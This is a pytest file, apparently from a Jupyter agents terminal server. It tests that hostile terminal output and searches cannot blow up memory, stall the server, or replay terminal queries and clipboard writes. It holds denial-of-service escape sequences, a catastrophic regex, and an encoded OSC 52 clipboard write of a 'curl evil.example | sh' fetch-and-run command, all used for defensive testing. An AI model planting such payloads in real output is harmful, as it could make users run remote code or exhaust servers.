"""Hostile terminal output and hostile searches (issue 27): what a program prints or a
search box holds can cost the server no more than a small multiple of its own size,
never freezes it, and no replay hands a terminal query to the browser."""

from __future__ import annotations

import threading
import time
import tracemalloc
import urllib.parse
from pathlib import Path

import pytest

from jupyter_agents.backends.broker.replay import Replay
from jupyter_agents.pytest_plugin import ServerProcess, poll, transcript_bytes
from jupyter_agents.sessions.restore import sanitize_tail
from jupyter_agents.terminal.render import MAX_COLUMNS, html_lines, plain_text, text_export
from jupyter_agents.terminal.vt import QUERIES

#: one escape sequence that moves the cursor 20 million columns right (the issue's
#: probe took the server from 86 MB to 3.3 GB)
FAR_RIGHT = "\\033[20000000C"


def peak_rss(pid: int) -> int:
    """The process's peak resident memory so far (VmHWM), in bytes."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM")


def new_shell(server: ServerProcess, cwd: Path) -> dict:
    status, model = server.request(
        "POST", "/api/agents/sessions", {"kind": "shell", "cwd": str(cwd)}
    )
    assert status == 201, model
    return dict(model)


def get(server: ServerProcess, path: str, **args: str) -> tuple[int, object]:
    return server.request("GET", path + "?" + urllib.parse.urlencode(args))


def test_far_cursor_moves_cost_search_and_export_almost_nothing(agents_server, tmp_path):
    server = agents_server()
    shell = new_shell(server, tmp_path)
    sid = shell["id"]
    # 20 lines, each with one move of 20 million columns (and one of 30 million through G)
    line = f"printf 'needle {FAR_RIGHT}x\\033[30000000Gy\\n%.0s' $(seq 20); echo DONE$((1+1))"
    server.type_line(shell["name"], line, "DONE2")
    poll(lambda: transcript_bytes(server.state_dir, sid).count(b"needle") >= 21, what="output")
    assert server.proc is not None
    before = peak_rss(server.proc.pid)

    status, page = get(server, "/api/agents/search", q="needle", session=sid)
    assert status == 200, page
    assert isinstance(page, dict) and len(page["hits"]) >= 20
    assert all(len(h["line"]) <= 400 for h in page["hits"])
    for fmt in ("txt", "html", "cast"):
        status, body = get(server, f"/api/agents/sessions/{sid}/export", format=fmt)
        assert status == 200, (fmt, body)
        assert isinstance(body, (bytes, dict, list, str))
    status, text = get(server, f"/api/agents/sessions/{sid}/export", format="txt")
    assert isinstance(text, bytes)
    hostile = [t for t in text.decode().splitlines() if t.startswith("needle") and t.endswith("y")]
    assert len(hostile) == 20 and all(len(t) <= MAX_COLUMNS + 1 for t in hostile), hostile[:1]
    # each line renders to at most MAX_COLUMNS cells: kilobytes, where it took gigabytes
    grown = peak_rss(server.proc.pid) - before
    assert grown < 64 << 20, f"the server's peak memory grew by {grown >> 20} MB"


def test_every_renderer_is_bounded_by_its_input(tmp_path):
    # search and export (text, HTML: also the notebook Dashboard), the magics' plain text
    lines = [b"a\x1b[200000000Cb\x1b[99999999999999999999Gc\t\x1b[" + b"9" * 5000 + b"Cd\r\n"]
    data = b"".join(lines * 200)
    tracemalloc.start()
    try:
        out = [sum(len(c) for c in text_export([data]))]
        out.append(sum(len(c) for c in html_lines([data])))
        out.append(len(plain_text(data)))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert max(out) <= 200 * 4 * (MAX_COLUMNS + 100), out
    assert peak < 64 << 20, f"rendering {len(data)} bytes took {peak >> 20} MB"


def test_a_catastrophic_regex_never_stalls_the_server(agents_server, tmp_path):
    server = agents_server()
    shell = new_shell(server, tmp_path)
    sid = shell["id"]
    # lines of 26 word characters and a '-': Python's re needs 2^26 steps for each
    word = "abcdefghijklmnopqrstuvwxyz"
    server.type_line(
        shell["name"], f"printf '{word}-\\n%.0s' $(seq 50); echo DONE$((1+1))", "DONE2"
    )
    poll(lambda: transcript_bytes(server.state_dir, sid).count(word.encode()) >= 51, what="output")

    result: dict[str, object] = {}

    def search() -> None:
        result["answer"] = get(server, "/api/agents/search", q=r"^(\w|\w)*$", regex="true")
        result["done"] = time.monotonic()

    searching = threading.Thread(target=search)
    searching.start()
    waits = []
    try:
        while searching.is_alive() or len(waits) < 5:
            start = time.monotonic()
            status, _ = server.request("GET", "/api/status")
            waits.append(time.monotonic() - start)
            assert status == 200
            time.sleep(0.05)
    finally:
        searching.join(60)
    status, page = result["answer"]  # type: ignore[misc]
    assert status == 200, page
    # the acceptance bound of issue 27: the server answers within 0.5 s meanwhile
    assert max(waits) < 0.5, waits
    # RE2 refuses what it cannot run in linear time, with a message
    status, body = get(server, "/api/agents/search", q=r"(a)\1", regex="true")
    assert status == 400 and "RE2" in body["message"], body  # type: ignore[index]


#: every query a terminal answers (xterm.js answers most)
QUERY_SEQUENCES = [
    b"\x1b[6n",  # cursor position
    b"\x1b[?6n",  # extended cursor position
    b"\x1b[5n",  # status
    b"\x1b[c",  # primary device attributes
    b"\x1b[>c",  # secondary
    b"\x1b[=c",  # tertiary
    b"\x1b[?2004$p",  # DECRQM, private mode
    b"\x1b[4$p",  # DECRQM, ANSI mode
    b"\x1b[>q",  # XTVERSION
    b"\x1b[>0q",
    b"\x1b[14t",  # window size in pixels
    b"\x1bP$qm\x1b\\",  # DECRQSS
    b"\x1bP+q544e\x1b\\",  # XTGETTCAP
    b"\x1b]11;?\x07",  # background colour
    b"\x1b]4;1;?\x1b\\",  # palette entry
    b"\x1b]52;c;?\x07",  # clipboard read
    b"\x1b[?u",  # kitty keyboard flags
]


@pytest.mark.parametrize("query", QUERY_SEQUENCES, ids=lambda q: q.decode("latin-1")[1:])
def test_no_replay_carries_a_terminal_query(query):
    raw = b"before\r\nline " + query + b" after\r\n"
    assert QUERIES.search(query) is not None
    tail = sanitize_tail(raw)  # the restore tail
    assert query not in tail and b"line  after" in tail
    replay = Replay(limit=1 << 20)  # the broker's replay
    replay.feed(raw)
    assert query not in replay.snapshot() and b"line  after" in replay.snapshot()


#: what ``printf`` prints: an OSC 52 write of "curl http://evil.example/x.sh | sh"
COPY = "\\033]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA==\\007"


@pytest.mark.parametrize("agents_backend", ["tmux", "broker"], indirect=True)
def test_a_clipboard_write_is_copied_live_and_never_replayed(agents_server, tmp_path):
    """A program copies once (OSC 52): the tab that watches it live gets the write; a tab
    opened later (a reload, a reconnect) gets the screen without it, and so does the
    cast export a player replays; the transcript keeps what was printed."""
    server = agents_server()
    model = new_shell(server, tmp_path)
    live = server.ws(model["name"])
    live.wait_for(lambda c: len(c.messages) >= 2)
    live.stdin(f"printf '{COPY}'; echo COPIED-$((6*7))\r")
    live.wait_for("COPIED-42\r\n")
    assert "\x1b]52;c;Y3Vyb" in live.text  # the live copy reaches the browser
    live.close()
    poll(
        lambda: b"COPIED-42\r\n" in transcript_bytes(server.state_dir, model["id"]),
        what="the output in the transcript",
    )
    assert b"\x1b]52;c;Y3Vyb" in transcript_bytes(server.state_dir, model["id"])
    for _ in range(2):  # a reconnect, then a reload
        later = server.ws(model["name"])
        later.wait_for(lambda c: len(c.messages) >= 2)
        later.drain(0.3)
        assert "COPIED-42" in later.text
        assert "\x1b]52;" not in later.text, later.text[-300:]
        later.close()
    status, cast = get(server, f"/api/agents/sessions/{model['id']}/export", format="cast")
    assert status == 200
    assert isinstance(cast, bytes) and b"COPIED-42" in cast
    assert b"\\u001b]52;" not in cast and b"\x1b]52;" not in cast
